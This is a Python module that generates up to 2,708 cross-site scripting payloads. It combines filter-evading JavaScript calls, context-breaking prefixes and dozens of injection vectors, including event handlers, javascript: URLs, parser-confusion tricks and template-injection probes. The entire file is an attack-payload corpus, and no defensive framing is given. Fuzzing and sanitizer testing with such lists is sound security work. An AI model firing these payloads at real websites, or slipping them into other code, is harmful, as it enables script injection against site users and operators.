"""2 708 texts, each of which would run where a page takes it for something else than text."""

from itertools import islice, product

_CALLS = (
    "alert(1)",
    "confirm`1`",
    "(alert)(1)",
    "top['al'+'ert'](1)",
    "alert&lpar;1&rpar;",
    "\\u0061lert(1)",
)
_BEFORE = (
    "",
    '"',
    "'",
    '">',
    "'>",
    "-->",
    "</title>",
    "</textarea>",
    "</script>",
    "]]>",
    "</style>",
    "`",
)
_ELEMENTS = (
    "<script>{}</script>",
    "<ScRiPt >{}</sCrIpT>",
    "<script/x>{}</script>",
    "<img src=x onerror={}>",
    "<img/src=x/onerror={}//",
    "<IMG SRC=# ONERROR={}>",
    '<img src="x" onerror="{}">',
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<video><source onerror={}></video>",
    "<video src=x onerror={}>",
    "<audio src=x onerror={}>",
    "<marquee onstart={}>",
    "<iframe onload={}>",
    "<iframe src=javascript:{}>",
    "<iframe srcdoc='<script>parent.{}</script>'>",
    "<object data=javascript:{}>",
    "<embed src=javascript:{}>",
    "<a href=javascript:{} autofocus onfocus={}>x</a>",
    "<a href='java&Tab;script:{}'>x</a>",
    "<form action=javascript:{}><button autofocus onfocus={}>x",
    "<math><mtext><table><mglyph><style><img src=x onerror={}>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<link rel=stylesheet href=x onload={} onerror={}>",
    "<style onload={}>",
    "<xss tabindex=1 autofocus onfocus={}>",
    "<p style='animation-name:x' onanimationstart={}>",
    " onfocus={} autofocus x=",
    "{{{{constructor.constructor('{}')()}}}}",
    "{{{{''.__class__.__mro__}}}}{}",
    "{{% include '{}' %}}",
    "${{{}}}",
    "[x](javascript:{})",
    "![x](x onerror={})",
)


def texts(number: int = 2708) -> list[str]:
    """Return so many of them, none twice."""
    made = (
        before + element.format(*[call] * element.count("{}"))
        for element, before, call in product(_ELEMENTS, _BEFORE, _CALLS)
    )
    return list(islice(dict.fromkeys(made), number))
